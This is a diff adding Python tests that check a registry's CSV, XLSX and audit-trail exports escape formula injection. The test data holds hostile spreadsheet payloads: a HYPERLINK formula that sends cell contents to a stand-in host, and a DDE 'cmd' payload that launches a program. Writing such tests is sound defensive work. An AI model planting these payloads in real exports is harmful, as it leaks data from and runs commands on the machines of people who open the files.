@@ -16,6 +16,7 @@ from openpyxl import load_workbook
 
 import workflows
 from audit.models import AuditEvent
+from audit.services import audit_record
 from oversight import exports
 from oversight.exports import REGISTRY_COLUMNS, RegistryFilters
 from registry.models import Deployment, DeploymentVersion
@@ -410,3 +411,46 @@ def test_items_the_chair_waived_when_approving_are_in_the_export(
     )
     (row,) = _csv_rows(api(auditor).get(URL, {"format": "csv"}))
     assert row["waived_items"] == "; ".join(f"{i.code}: Checked in the pilot" for i in unverified)
+
+
+# ---- no export carries a live formula (SPEC section 8) ------------------------------------------
+
+PLANTED = {
+    "vendor": '=HYPERLINK("https://example.invalid/?leak="&A2,"Acme")',
+    "name": "+1+cmd|' /C calc'!A0",
+    "model_version": "-2+3",
+    "human_oversight": "@SUM(A1:A9)",
+    "customer_disclosure": "\t=1+1",
+    "monitoring_kpis": "\r=1+1",
+}
+
+
+@one_entry
+def test_text_that_would_start_a_formula_is_text_in_the_csv(api, auditor, entry):
+    Deployment.objects.filter(pk=entry.pk).update(**PLANTED)
+    (row,) = _csv_rows(api(auditor).get(URL, {"format": "csv"}))
+    assert {field: row[field] for field in PLANTED} == {
+        field: "'" + value for field, value in PLANTED.items()
+    }
+    assert row["reference"] == entry.reference  # ordinary text is left alone
+
+
+@one_entry
+def test_text_that_would_start_a_formula_is_a_text_cell_in_the_xlsx(api, auditor, entry):
+    Deployment.objects.filter(pk=entry.pk).update(**PLANTED)
+    response = api(auditor).get(URL, {"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(_body(response))).active
+    header = [cell.value for cell in sheet[1]]
+    cells = {field: sheet.cell(row=2, column=header.index(field) + 1) for field in PLANTED}
+    assert {field: cell.data_type for field, cell in cells.items()} == dict.fromkeys(PLANTED, "s")
+    # XML stores a carriage return as a line feed.
+    assert {field: cell.value for field, cell in cells.items()} == {
+        field: value.replace("\r", "\n") for field, value in PLANTED.items()
+    }
+
+
+def test_an_audit_trail_csv_never_carries_a_formula_from_a_planted_value(api, auditor):
+    planted = '=HYPERLINK("https://example.invalid/?leak="&A2,"x")'
+    audit_record(actor=None, action="login_locked_out", object_ref=planted, changes={})
+    rows = _csv_rows(api(auditor).get(f"{AUDIT_URL}export/", {"format": "csv"}))
+    assert [r["object_ref"] for r in rows if r["action"] == "login_locked_out"] == ["'" + planted]
